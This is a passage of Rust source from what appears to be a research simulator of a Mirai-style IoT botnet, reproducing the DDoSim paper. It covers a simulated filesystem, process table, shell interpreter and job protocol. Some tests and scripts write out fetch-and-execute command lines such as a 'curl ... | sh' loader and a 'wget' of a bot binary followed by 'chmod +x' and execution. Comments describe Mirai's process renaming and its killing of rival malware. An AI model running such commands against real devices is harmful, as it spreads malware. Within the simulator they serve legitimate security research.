        let mut fs = SimFs::from_template(template());
        assert!(fs.resolve_executable("/etc/config").is_err());
        fs.chmod_exec("/etc/config").expect("exists in base");
        assert!(fs.resolve_executable("/etc/config").is_ok());
        assert_eq!(fs.overlay_len(), 1);
        // Tombstoned base files cannot be chmodded back to life.
        fs.remove("/usr/sbin/connmand");
        assert!(matches!(
            fs.chmod_exec("/usr/sbin/connmand"),
            Err(FsError::NotFound(_))
        ));
    }

    #[test]
    fn remove_prefix_spans_base_and_overlay() {
        let mut fs = SimFs::from_template(template());
        fs.write("/etc/extra", data(1));
        assert_eq!(fs.remove_prefix("/etc/"), 2);
        assert!(!fs.exists("/etc/config"));
        assert!(!fs.exists("/etc/extra"));
        assert!(fs.exists("/usr/sbin/connmand"));
    }

    #[test]
    fn template_store_is_content_addressed() {
        let mut store = FsTemplateStore::new();
        let manifest = |size| {
            BTreeMap::from([(
                "/usr/sbin/dnsmasq".to_owned(),
                FileEntry {
                    kind: FileKind::Data,
                    size_bytes: size,
                    executable: true,
                },
            )])
        };
        let a = store.intern(manifest(100));
        let b = store.intern(manifest(100));
        let c = store.intern(manifest(200));
        assert!(Arc::ptr_eq(&a, &b), "identical manifests share one template");
        assert!(!Arc::ptr_eq(&a, &c));
        assert_eq!(store.len(), 2);
    }

    #[test]
    fn cloned_scripts_share_line_storage() {
        let s = ShellScript::new(["wget http://x/bins/mirai", "/tmp/mirai"]);
        let downloaded = s.clone();
        assert_eq!(s, downloaded);
        assert!(std::ptr::eq(
            s.lines().as_ptr(),
            downloaded.lines().as_ptr()
        ));
    }
}
