//! The container's in-memory filesystem.
//!
//! Holds the files the infection chain manipulates: the downloaded shell
//! script, the architecture-specific malware binary (`wget`/`chmod`/exec),
//! and its deletion afterwards (Mirai removes its binary on startup).

use netsim::{Application, Ctx};
use std::collections::BTreeMap;
use std::fmt;
use std::sync::Arc;
use tinyvm::Arch;

/// A shell script: a sequence of command lines.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellScript {
    /// Command lines executed in order.
    pub lines: Vec<String>,
}

impl ShellScript {
    /// Creates a script from lines.
    pub fn new<I, S>(lines: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        ShellScript {
            lines: lines.into_iter().map(Into::into).collect(),
        }
    }

    /// Approximate byte size of the script text.
    pub fn byte_size(&self) -> u64 {
        self.lines.iter().map(|l| l.len() as u64 + 1).sum()
    }
}

/// Environment handed to a program launcher when a file is executed.
#[derive(Debug)]
pub struct LaunchEnv {
    /// Path the program was executed from.
    pub exec_path: String,
    /// Architecture of the host container.
    pub host_arch: Arch,
    /// Process-table id assigned to the new program.
    pub pid: crate::proc::Pid,
    /// The container the program runs in.
    pub container: crate::container::ContainerHandle,
}

/// Factory invoked when an executable file runs; returns the application
/// embodying the program (e.g. the Mirai bot).
///
/// `Send + Sync` so executables can travel inside packet payloads (file
/// downloads); the closure should capture only plain configuration.
pub type ProgramLauncher = Arc<dyn Fn(&mut Ctx<'_>, LaunchEnv) -> Box<dyn Application> + Send + Sync>;

/// A file as served by the Attacker's HTTP file server: the path it is
/// published under plus its contents.
#[derive(Debug, Clone)]
pub struct ServedFile {
    /// Published path (e.g. `/bins/mirai.x86`).
    pub path: String,
    /// File contents and metadata.
    pub entry: FileEntry,
}

/// What a file contains.
#[derive(Clone)]
pub enum FileKind {
    /// Plain data.
    Data,
    /// A shell script.
    Script(ShellScript),
    /// An executable for `arch`; running it spawns the launcher's app.
    Executable {
        /// Architecture the binary was compiled for.
        arch: Arch,
        /// Factory producing the program's behaviour.
        launcher: ProgramLauncher,
    },
}

impl fmt::Debug for FileKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FileKind::Data => f.write_str("Data"),
            FileKind::Script(s) => f.debug_tuple("Script").field(&s.lines.len()).finish(),
            FileKind::Executable { arch, .. } => {
                f.debug_struct("Executable").field("arch", arch).finish()
            }
        }
    }
}

/// One file: contents kind, size, and mode.
#[derive(Debug, Clone)]
pub struct FileEntry {
    /// Contents.
    pub kind: FileKind,
    /// Size in bytes (drives memory accounting and download timing).
    pub size_bytes: u64,
    /// Whether the execute bit is set.
    pub executable: bool,
}

/// Errors from filesystem operations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FsError {
    /// No file at the path.
    NotFound(String),
    /// The file is not executable (missing chmod +x).
    NotExecutable(String),
}

impl fmt::Display for FsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FsError::NotFound(p) => write!(f, "no such file: {p}"),
            FsError::NotExecutable(p) => write!(f, "permission denied: {p}"),
        }
    }
}

impl std::error::Error for FsError {}

/// A flat in-memory filesystem.
///
/// # Examples
///
/// ```
/// use firmware::{FileEntry, FileKind, SimFs};
///
/// let mut fs = SimFs::new();
/// fs.write("/tmp/mirai", FileEntry {
///     kind: FileKind::Data,
///     size_bytes: 121_000,
///     executable: false,
/// });
/// assert!(fs.resolve_executable("/tmp/mirai").is_err()); // needs chmod +x
/// fs.chmod_exec("/tmp/mirai")?;
/// assert!(fs.resolve_executable("/tmp/mirai").is_ok());
/// # Ok::<(), firmware::FsError>(())
/// ```
#[derive(Debug, Default, Clone)]
pub struct SimFs {
    files: BTreeMap<String, FileEntry>,
}

impl SimFs {
    /// An empty filesystem.
    pub fn new() -> Self {
        SimFs::default()
    }

    /// Writes (or replaces) a file.
    pub fn write(&mut self, path: impl Into<String>, entry: FileEntry) {
        self.files.insert(path.into(), entry);
    }

    /// Iterates all files in sorted path order (serialization, digests).
    pub fn files(&self) -> impl Iterator<Item = (&str, &FileEntry)> {
        self.files.iter().map(|(p, e)| (p.as_str(), e))
    }

    /// Reads a file.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if the path does not exist.
    pub fn read(&self, path: &str) -> Result<&FileEntry, FsError> {
        self.files
            .get(path)
            .ok_or_else(|| FsError::NotFound(path.to_owned()))
    }

    /// Marks a file executable (`chmod +x`).
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if the path does not exist.
    pub fn chmod_exec(&mut self, path: &str) -> Result<(), FsError> {
        let entry = self
            .files
            .get_mut(path)
            .ok_or_else(|| FsError::NotFound(path.to_owned()))?;
        entry.executable = true;
        Ok(())
    }

    /// Removes a file; returns whether it existed.
    pub fn remove(&mut self, path: &str) -> bool {
        self.files.remove(path).is_some()
    }

    /// Removes every file under `prefix` (e.g. `/tmp/` on reboot — tmpfs
    /// contents are volatile); returns how many were removed.
    pub fn remove_prefix(&mut self, prefix: &str) -> usize {
        let before = self.files.len();
        self.files.retain(|path, _| !path.starts_with(prefix));
        before - self.files.len()
    }

    /// Whether a path exists.
    pub fn exists(&self, path: &str) -> bool {
        self.files.contains_key(path)
    }

    /// Resolves an executable for running.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if missing, [`FsError::NotExecutable`]
    /// if the execute bit is not set.
    pub fn resolve_executable(&self, path: &str) -> Result<&FileEntry, FsError> {
        let entry = self.read(path)?;
        if !entry.executable {
            return Err(FsError::NotExecutable(path.to_owned()));
        }
        Ok(entry)
    }

    /// Total bytes stored.
    pub fn total_bytes(&self) -> u64 {
        self.files.values().map(|f| f.size_bytes).sum()
    }

    /// Number of files.
    pub fn file_count(&self) -> usize {
        self.files.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn data(bytes: u64) -> FileEntry {
        FileEntry {
            kind: FileKind::Data,
            size_bytes: bytes,
            executable: false,
        }
    }

    #[test]
    fn write_read_remove() {
        let mut fs = SimFs::new();
        fs.write("/tmp/a", data(10));
        assert!(fs.exists("/tmp/a"));
        assert_eq!(fs.read("/tmp/a").expect("exists").size_bytes, 10);
        assert!(fs.remove("/tmp/a"));
        assert!(!fs.remove("/tmp/a"));
        assert_eq!(fs.read("/tmp/a").unwrap_err(), FsError::NotFound("/tmp/a".into()));
    }

    #[test]
    fn chmod_gates_execution() {
        let mut fs = SimFs::new();
        fs.write("/tmp/bot", data(100));
        assert_eq!(
            fs.resolve_executable("/tmp/bot").unwrap_err(),
            FsError::NotExecutable("/tmp/bot".into())
        );
        fs.chmod_exec("/tmp/bot").expect("exists");
        assert!(fs.resolve_executable("/tmp/bot").is_ok());
    }

    #[test]
    fn chmod_missing_file_errors() {
        let mut fs = SimFs::new();
        assert!(matches!(fs.chmod_exec("/nope"), Err(FsError::NotFound(_))));
    }

    #[test]
    fn remove_prefix_clears_tmpfs() {
        let mut fs = SimFs::new();
        fs.write("/tmp/a", data(1));
        fs.write("/tmp/b", data(2));
        fs.write("/etc/config", data(3));
        assert_eq!(fs.remove_prefix("/tmp/"), 2);
        assert!(!fs.exists("/tmp/a"));
        assert!(fs.exists("/etc/config"));
    }

    #[test]
    fn total_bytes_sums_files() {
        let mut fs = SimFs::new();
        fs.write("/a", data(10));
        fs.write("/b", data(32));
        assert_eq!(fs.total_bytes(), 42);
        assert_eq!(fs.file_count(), 2);
    }

    #[test]
    fn script_byte_size_counts_newlines() {
        let s = ShellScript::new(["ab", "c"]);
        assert_eq!(s.byte_size(), 5);
    }
}
