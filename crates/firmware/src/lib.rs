//! # firmware — the container runtime and vulnerable IoT services
//!
//! The Docker substitute of the DDoSim reproduction. A Dev in the paper is
//! a Docker container holding a vulnerable network daemon, bridged to an
//! NS-3 ghost node; here a Dev is a [`ContainerHandle`] (filesystem,
//! process table, shell command set, audit log) whose applications run on a
//! `netsim` node:
//!
//! * [`SimFs`] / [`ProcTable`] — the state the infection chain manipulates;
//! * [`ShellJob`] — interprets `curl -s URL | sh`, `wget`, `chmod +x`,
//!   binary execution, and `rm`, with real simulated-network downloads;
//! * [`NetMgrDaemon`] / [`DnsProxyDaemon`] — the Connman- and Dnsmasq-like
//!   daemons whose stack overflows (via [`tinyvm`]) are the botnet's entry
//!   points;
//! * [`ContainerRuntime`] — builds containers and aggregates the memory
//!   accounting behind the paper's Table I.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod container;
pub mod fs;
pub mod proc;
pub mod services;
pub mod shell;

pub use container::{
    CommandSet, ContainerEvent, ContainerHandle, ContainerRuntime, ContainerState,
    PROC_OVERHEAD_BYTES,
};
pub use fs::{
    FileEntry, FileKind, FsError, FsTemplate, FsTemplateStore, LaunchEnv, ProgramLauncher,
    ServedFile, ShellScript, SimFs,
};
pub use proc::{Pid, ProcEntry, ProcTable};
pub use services::{
    leak_query_name, parse_leak_query_name, DnsProxyDaemon, NetMgrDaemon, ServiceCore,
    OPTION_LEAK_PROBE, OPTION_LEAK_VALUE, RTYPE_LEAK_PROBE,
};
pub use shell::{parse_url, ShellJob};
