//! The container's process table.
//!
//! Mirai's self-defense interacts with it heavily: process-name
//! obfuscation, killing processes bound to telnet/ssh ports, and killing
//! rival malware by name.

use netsim::AppId;
use std::fmt;

/// Process id within a container.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Pid(pub u32);

impl fmt::Display for Pid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "pid {}", self.0)
    }
}

/// One process table entry.
#[derive(Debug, Clone)]
pub struct ProcEntry {
    /// Process id.
    pub pid: Pid,
    /// Process name (`argv[0]`; bots obfuscate this).
    pub name: String,
    /// The netsim application embodying the process, if any.
    pub app: Option<AppId>,
    /// Ports the process is bound to.
    pub ports: Vec<u16>,
}

/// The container's process table.
#[derive(Debug, Default, Clone)]
pub struct ProcTable {
    procs: Vec<ProcEntry>,
    next_pid: u32,
}

impl ProcTable {
    /// An empty table; pids start at 100.
    pub fn new() -> Self {
        ProcTable {
            procs: Vec::new(),
            next_pid: 100,
        }
    }

    /// Registers a process; returns its pid.
    pub fn register(&mut self, name: impl Into<String>, app: Option<AppId>, ports: Vec<u16>) -> Pid {
        let pid = Pid(self.next_pid);
        self.next_pid += 1;
        self.procs.push(ProcEntry {
            pid,
            name: name.into(),
            app,
            ports,
        });
        pid
    }

    /// Renames a process (Mirai's `prctl(PR_SET_NAME, random)` analogue).
    pub fn rename(&mut self, pid: Pid, name: impl Into<String>) -> bool {
        match self.procs.iter_mut().find(|p| p.pid == pid) {
            Some(p) => {
                p.name = name.into();
                true
            }
            None => false,
        }
    }

    /// Associates an application with an already-registered process.
    pub fn set_app(&mut self, pid: Pid, app: AppId) -> bool {
        match self.procs.iter_mut().find(|p| p.pid == pid) {
            Some(p) => {
                p.app = Some(app);
                true
            }
            None => false,
        }
    }

    /// Removes a process by pid; returns its app (to be removed from the
    /// simulator by the caller).
    pub fn kill(&mut self, pid: Pid) -> Option<Option<AppId>> {
        let idx = self.procs.iter().position(|p| p.pid == pid)?;
        Some(self.procs.swap_remove(idx).app)
    }

    /// Removes every process bound to `port`; returns their apps.
    pub fn kill_by_port(&mut self, port: u16) -> Vec<Option<AppId>> {
        let mut killed = Vec::new();
        let mut i = 0;
        while i < self.procs.len() {
            if self.procs[i].ports.contains(&port) {
                killed.push(self.procs.swap_remove(i).app);
            } else {
                i += 1;
            }
        }
        killed
    }

    /// Removes every process whose name matches any of `names`; returns
    /// their apps.
    pub fn kill_by_names(&mut self, names: &[&str]) -> Vec<Option<AppId>> {
        let mut killed = Vec::new();
        let mut i = 0;
        while i < self.procs.len() {
            if names.contains(&self.procs[i].name.as_str()) {
                killed.push(self.procs.swap_remove(i).app);
            } else {
                i += 1;
            }
        }
        killed
    }

    /// Iterates over live processes.
    pub fn iter(&self) -> impl Iterator<Item = &ProcEntry> {
        self.procs.iter()
    }

    /// Number of live processes.
    pub fn len(&self) -> usize {
        self.procs.len()
    }

    /// Whether the table is empty.
    pub fn is_empty(&self) -> bool {
        self.procs.is_empty()
    }

    /// Looks up a process by name.
    pub fn find_by_name(&self, name: &str) -> Option<&ProcEntry> {
        self.procs.iter().find(|p| p.name == name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn register_assigns_increasing_pids() {
        let mut t = ProcTable::new();
        let a = t.register("connmand", None, vec![53]);
        let b = t.register("telnetd", None, vec![23]);
        assert!(b > a);
        assert_eq!(t.len(), 2);
    }

    #[test]
    fn kill_by_port_removes_matching() {
        let mut t = ProcTable::new();
        t.register("telnetd", None, vec![23]);
        t.register("sshd", None, vec![22]);
        t.register("connmand", None, vec![53]);
        let killed = t.kill_by_port(23);
        assert_eq!(killed.len(), 1);
        assert_eq!(t.len(), 2);
        assert!(t.find_by_name("telnetd").is_none());
    }

    #[test]
    fn kill_by_names_removes_rivals() {
        let mut t = ProcTable::new();
        t.register("qbot", None, vec![]);
        t.register("zollard", None, vec![]);
        t.register("connmand", None, vec![53]);
        let killed = t.kill_by_names(&["qbot", "zollard", "remaiten"]);
        assert_eq!(killed.len(), 2);
        assert!(t.find_by_name("connmand").is_some());
    }

    #[test]
    fn rename_obfuscates() {
        let mut t = ProcTable::new();
        let pid = t.register("mirai.x86", None, vec![]);
        assert!(t.rename(pid, "dvrHelper7"));
        assert!(t.find_by_name("mirai.x86").is_none());
        assert!(t.find_by_name("dvrHelper7").is_some());
        assert!(!t.rename(Pid(9999), "x"));
    }

    #[test]
    fn kill_unknown_pid_is_none() {
        let mut t = ProcTable::new();
        assert!(t.kill(Pid(1)).is_none());
        assert!(t.is_empty());
    }
}
