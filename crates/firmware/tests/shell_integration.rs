//! Shell-interpreter integration tests: the infection chain's commands
//! exercised over a live simulated network against a test file server.

use firmware::{
    CommandSet, ContainerEvent, ContainerHandle, FileEntry, FileKind, ProgramLauncher,
    ServedFile, ShellJob, ShellScript,
};
use netsim::topology::StarTopology;
use netsim::{Application, Ctx, LinkConfig, Payload, SimTime, Simulator, TcpEvent};
use protocols::{HttpRequest, HttpResponse, HTTP_PORT};
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;
use tinyvm::Arch;

/// Minimal static HTTP server for tests (the attacker crate has the real
/// one; firmware must not depend on it).
struct TestHttpServer {
    files: Vec<ServedFile>,
}

impl Application for TestHttpServer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.tcp_listen(HTTP_PORT).expect("listen");
    }
    fn on_tcp(&mut self, ctx: &mut Ctx<'_>, ev: TcpEvent) {
        if let TcpEvent::Data { conn, payload, .. } = ev {
            let Some(req) = payload.get::<HttpRequest>() else {
                return;
            };
            let resp = match self.files.iter().find(|f| f.path == req.path) {
                Some(f) => HttpResponse::ok(Payload::new(f.clone()), f.entry.size_bytes as u32),
                None => HttpResponse::not_found(),
            };
            let bytes = resp.wire_size();
            let _ = ctx.tcp_send(conn, Payload::new(resp), bytes);
        }
    }
}

/// World: one dev node + one server node on a star; returns everything a
/// test needs to drive a ShellJob.
struct World {
    sim: Simulator,
    dev_node: netsim::NodeId,
    server_v4: std::net::IpAddr,
    container: ContainerHandle,
}

fn world(files: Vec<ServedFile>, commands: CommandSet) -> World {
    let mut sim = Simulator::new(3);
    let mut star = StarTopology::new(&mut sim, "net");
    let dev_node = sim.add_node("dev");
    let server_node = sim.add_node("server");
    star.attach(&mut sim, dev_node, LinkConfig::new(500_000, std::time::Duration::from_millis(5)));
    let server_m = star.attach(&mut sim, server_node, LinkConfig::default());
    sim.install_app(server_node, Box::new(TestHttpServer { files }));
    let container = ContainerHandle::new("dev", Arch::X86_64, dev_node, commands, 1_000_000);
    World {
        sim,
        dev_node,
        server_v4: server_m.addr_v4,
        container,
    }
}

static LAUNCHES: AtomicU32 = AtomicU32::new(0);

struct Launched;
impl Application for Launched {
    fn on_start(&mut self, _ctx: &mut Ctx<'_>) {
        LAUNCHES.fetch_add(1, Ordering::SeqCst);
    }
}

fn test_binary(arch: Arch) -> ServedFile {
    let launcher: ProgramLauncher = Arc::new(|_ctx, _env| Box::new(Launched));
    ServedFile {
        path: format!("/bins/payload.{}", arch.suffix()),
        entry: FileEntry {
            kind: FileKind::Executable { arch, launcher },
            size_bytes: 50_000,
            executable: false,
        },
    }
}

fn loader_script(host: std::net::IpAddr) -> ServedFile {
    let script = ShellScript::new([
        format!("wget http://{host}/bins/payload.$ARCH -O /tmp/payload"),
        "chmod +x /tmp/payload".to_owned(),
        "/tmp/payload".to_owned(),
    ]);
    let size = script.byte_size();
    ServedFile {
        path: "/loader.sh".to_owned(),
        entry: FileEntry {
            kind: FileKind::Script(script),
            size_bytes: size,
            executable: false,
        },
    }
}

#[test]
fn curl_pipe_sh_downloads_and_executes() {
    LAUNCHES.store(0, Ordering::SeqCst);
    let files = |host| vec![loader_script(host), test_binary(Arch::X86_64)];
    let mut w = world(vec![], CommandSet::standard());
    let files = files(w.server_v4);
    // Re-create world with the right host baked into the script.
    w = world(files, CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{}/loader.sh | sh", w.server_v4),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(30));
    assert_eq!(LAUNCHES.load(Ordering::SeqCst), 1, "payload executed once");
    assert!(w.container.state().fs.exists("/tmp/payload"));
    let events = &w.container.state().events;
    assert!(events
        .iter()
        .any(|e| matches!(e, ContainerEvent::Downloaded { path, .. } if path == "/tmp/payload")));
    assert!(events
        .iter()
        .any(|e| matches!(e, ContainerEvent::Executed { path, .. } if path == "/tmp/payload")));
}

#[test]
fn missing_curl_aborts_before_any_network_traffic() {
    LAUNCHES.store(0, Ordering::SeqCst);
    let mut w = world(vec![], CommandSet::without(&["curl"]));
    let files = vec![loader_script(w.server_v4), test_binary(Arch::X86_64)];
    w = world(files, CommandSet::without(&["curl"]));
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{}/loader.sh | sh", w.server_v4),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(10));
    assert_eq!(LAUNCHES.load(Ordering::SeqCst), 0);
    assert!(w
        .container
        .state()
        .events
        .iter()
        .any(|e| matches!(e, ContainerEvent::CommandMissing { command, .. } if command == "curl")));
}

#[test]
fn wrong_architecture_binary_does_not_execute() {
    LAUNCHES.store(0, Ordering::SeqCst);
    let mut w = world(vec![], CommandSet::standard());
    // Serve an ARM binary under the path an x86 host will request: the
    // container's $ARCH substitution requests payload.x86, so serve the
    // mismatched binary AT that path.
    let mut bin = test_binary(Arch::Arm7);
    bin.path = "/bins/payload.x86".to_owned();
    let files = vec![loader_script(w.server_v4), bin];
    w = world(files, CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{}/loader.sh | sh", w.server_v4),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(30));
    assert_eq!(
        LAUNCHES.load(Ordering::SeqCst),
        0,
        "exec-format error: ARM binary on x86 host"
    );
}

#[test]
fn missing_file_on_server_fails_gracefully() {
    LAUNCHES.store(0, Ordering::SeqCst);
    let w0 = world(vec![], CommandSet::standard());
    let server = w0.server_v4;
    let mut w = world(vec![], CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{server}/nonexistent.sh | sh"),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(10));
    assert_eq!(LAUNCHES.load(Ordering::SeqCst), 0);
    // The job exits; its `sh` process is deregistered.
    assert!(w.container.state().procs.is_empty());
}

#[test]
fn unreachable_server_times_out_and_cleans_up() {
    let mut w = world(vec![], CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        "curl -s http://10.99.99.99/loader.sh | sh".to_owned(),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(120));
    assert!(w.container.state().procs.is_empty(), "job must not leak processes");
}

#[test]
fn executing_without_chmod_fails() {
    LAUNCHES.store(0, Ordering::SeqCst);
    let mut w = world(vec![], CommandSet::standard());
    let script = ShellScript::new([
        format!("wget http://{}/bins/payload.$ARCH -O /tmp/p", w.server_v4),
        "/tmp/p".to_owned(), // no chmod +x
    ]);
    let size = script.byte_size();
    let files = vec![
        ServedFile {
            path: "/loader.sh".to_owned(),
            entry: FileEntry {
                kind: FileKind::Script(script),
                size_bytes: size,
                executable: false,
            },
        },
        test_binary(Arch::X86_64),
    ];
    let server = w.server_v4;
    w = world(files, CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{server}/loader.sh | sh"),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(30));
    assert_eq!(LAUNCHES.load(Ordering::SeqCst), 0, "permission denied without +x");
}
