//! The `ddosim.serve/1` wire protocol.
//!
//! Requests and frames are single-line JSON documents. A client sends
//! one request per line:
//!
//! ```json
//! {"schema":"ddosim.serve/1","action":"submit","scenario":{...},"record":true}
//! {"schema":"ddosim.serve/1","action":"submit","config":{...},"metrics_interval_secs":2.0}
//! {"schema":"ddosim.serve/1","action":"shutdown"}
//! ```
//!
//! The server answers with frames, every one tagged with the schema, a
//! `frame` kind, and (for per-job frames) the job id the client can
//! demux on: `accepted`, `started`, `event` (one per flight-recorder
//! entry, stamped exactly as the ring stored it), `metrics` (one per
//! new time-series sample), `result` (the final deterministic
//! [`RunResult`](ddosim_core::RunResult) row), `error`, and `shutdown`.
//!
//! Parsing is strict in the same spirit as every other schema in this
//! workspace: the version is pinned, unknown fields are rejected, and
//! exactly one of `scenario` / `config` must own the world.

use ddosim_core::SimulationConfig;
use djson::Json;
use scenario::ScenarioPlan;
use std::time::Duration;
use telemetry::Event;

/// Pinned schema tag carried by every request and every frame.
pub const SERVE_SCHEMA: &str = "ddosim.serve/1";

/// What a submitted job runs: a declarative scenario plan (the
/// `--scenario` path) or a fully resolved simulation configuration (the
/// checkpoint-style embedded-config path).
#[derive(Debug)]
pub enum JobSpec {
    /// A strict `ddosim.scenario/1` plan; the plan owns the world.
    Scenario(ScenarioPlan),
    /// A resolved configuration document (`config_to_json` shape).
    Config(SimulationConfig),
}

/// A validated submission.
#[derive(Debug)]
pub struct SubmitRequest {
    /// Client-chosen job id; the server generates `job-<n>` when absent.
    pub id: Option<String>,
    /// What to run.
    pub spec: JobSpec,
    /// Stream flight-recorder events and report the reassemblable trace.
    pub record: bool,
    /// Sample and stream time-series metrics every this much simulated
    /// time.
    pub metrics_interval: Option<Duration>,
}

/// A parsed request line.
#[derive(Debug)]
pub enum Action {
    /// Run a job.
    Submit(SubmitRequest),
    /// Finish in-flight jobs, then stop serving.
    Shutdown,
}

/// Strictly parses one request line.
///
/// # Errors
///
/// Returns a message naming the first problem: bad JSON, missing or
/// mismatched schema, unknown action or field, both or neither of
/// `scenario`/`config`, or an invalid embedded document.
pub fn parse_request(line: &str) -> Result<Action, String> {
    let json = Json::parse(line).map_err(|e| format!("request is not valid JSON: {e}"))?;
    let Json::Obj(members) = &json else {
        return Err("request is not a JSON object".to_owned());
    };
    let schema = json
        .get("schema")
        .and_then(Json::as_str)
        .ok_or("request missing string field 'schema'")?;
    if schema != SERVE_SCHEMA {
        return Err(format!("unsupported schema '{schema}' (expected '{SERVE_SCHEMA}')"));
    }
    let action = json
        .get("action")
        .and_then(Json::as_str)
        .ok_or("request missing string field 'action'")?;
    match action {
        "shutdown" => {
            for (key, _) in members {
                if key != "schema" && key != "action" {
                    return Err(format!("shutdown request has unexpected field '{key}'"));
                }
            }
            Ok(Action::Shutdown)
        }
        "submit" => {
            for (key, _) in members {
                match key.as_str() {
                    "schema" | "action" | "id" | "scenario" | "config" | "record"
                    | "metrics_interval_secs" => {}
                    other => return Err(format!("submit request has unknown field '{other}'")),
                }
            }
            let id = match json.get("id") {
                None => None,
                Some(v) => {
                    let id = v.as_str().ok_or("field 'id' is not a string")?;
                    if id.is_empty() || id.len() > 128 {
                        return Err("field 'id' must be 1..=128 characters".to_owned());
                    }
                    Some(id.to_owned())
                }
            };
            let record = match json.get("record") {
                None => false,
                Some(v) => v.as_bool().ok_or("field 'record' is not a boolean")?,
            };
            let metrics_interval = match json.get("metrics_interval_secs") {
                None => None,
                Some(v) => {
                    let secs =
                        v.as_f64().ok_or("field 'metrics_interval_secs' is not a number")?;
                    if !secs.is_finite() || secs <= 0.0 {
                        return Err("field 'metrics_interval_secs' must be positive".to_owned());
                    }
                    Some(Duration::from_secs_f64(secs))
                }
            };
            let spec = match (json.get("scenario"), json.get("config")) {
                (Some(_), Some(_)) => {
                    return Err(
                        "submit request has both 'scenario' and 'config'; \
                         exactly one must own the world"
                            .to_owned(),
                    )
                }
                (None, None) => {
                    return Err(
                        "submit request needs exactly one of 'scenario' or 'config'".to_owned()
                    )
                }
                (Some(plan), None) => {
                    // Round-trip through text so the submitted plan goes
                    // through the exact strict parser the offline
                    // `--scenario` path uses.
                    let plan = ScenarioPlan::parse(&plan.to_string_compact())
                        .map_err(|e| format!("scenario: {}", String::from(e)))?;
                    JobSpec::Scenario(plan)
                }
                (None, Some(config)) => JobSpec::Config(
                    ddosim_core::checkpoint::config_from_json(config)
                        .map_err(|e| format!("config: {e}"))?,
                ),
            };
            Ok(Action::Submit(SubmitRequest { id, spec, record, metrics_interval }))
        }
        other => Err(format!("unknown action '{other}'")),
    }
}

/// The job id a frame belongs to, if it is a per-job frame.
pub fn job_id(frame: &Json) -> Option<&str> {
    frame.get("job").and_then(Json::as_str)
}

fn frame(kind: &str, rest: impl IntoIterator<Item = (&'static str, Json)>) -> Json {
    let mut members = vec![
        ("schema".to_owned(), Json::Str(SERVE_SCHEMA.into())),
        ("frame".to_owned(), Json::Str(kind.into())),
    ];
    members.extend(rest.into_iter().map(|(k, v)| (k.to_owned(), v)));
    Json::Obj(members)
}

/// `accepted`: the request parsed and the job is queued.
pub fn frame_accepted(job: &str) -> Json {
    frame("accepted", [("job", Json::Str(job.into()))])
}

/// `started`: a worker built the world and is about to run it.
pub fn frame_started(job: &str, recorder_capacity: Option<usize>) -> Json {
    frame(
        "started",
        [
            ("job", Json::Str(job.into())),
            (
                "recorder_capacity",
                recorder_capacity.map(|c| Json::U64(c as u64)).unwrap_or(Json::Null),
            ),
        ],
    )
}

/// `event`: one flight-recorder entry, exactly as the ring stored it.
pub fn frame_event(job: &str, event: &Event) -> Json {
    frame(
        "event",
        [("job", Json::Str(job.into())), ("event", djson::ToJson::to_json(event))],
    )
}

/// `metrics`: one new time-series sample.
pub fn frame_metrics(job: &str, series: &str, index: usize, interval_nanos: u64, value: f64) -> Json {
    frame(
        "metrics",
        [
            ("job", Json::Str(job.into())),
            ("series", Json::Str(series.into())),
            ("index", Json::U64(index as u64)),
            ("interval_nanos", Json::U64(interval_nanos)),
            ("value", Json::F64(value)),
        ],
    )
}

/// `result`: the job finished; `result` is the deterministic
/// [`RunResult`](ddosim_core::RunResult) row (host timings excluded).
pub fn frame_result(
    job: &str,
    result: Json,
    events_recorded: u64,
    recorder_capacity: Option<usize>,
) -> Json {
    frame(
        "result",
        [
            ("job", Json::Str(job.into())),
            ("result", result),
            ("events_recorded", Json::U64(events_recorded)),
            (
                "recorder_capacity",
                recorder_capacity.map(|c| Json::U64(c as u64)).unwrap_or(Json::Null),
            ),
        ],
    )
}

/// `error`: a request was rejected (`job` null) or a job failed.
pub fn frame_error(job: Option<&str>, message: &str) -> Json {
    frame(
        "error",
        [
            ("job", job.map(|j| Json::Str(j.into())).unwrap_or(Json::Null)),
            ("error", Json::Str(message.into())),
        ],
    )
}

/// `shutdown`: the server acknowledged a shutdown request.
pub fn frame_shutdown() -> Json {
    frame("shutdown", [])
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A minimal valid scenario document for submission tests.
    fn plan_json() -> String {
        r#"{
            "schema": "ddosim.scenario/1",
            "name": "tiny",
            "world": { "devs": 3, "seed": 7, "sim_time_secs": 45, "attack_at_secs": 25 },
            "attack": { "vector": "udpplain", "duration_secs": 15 }
        }"#
        .to_owned()
    }

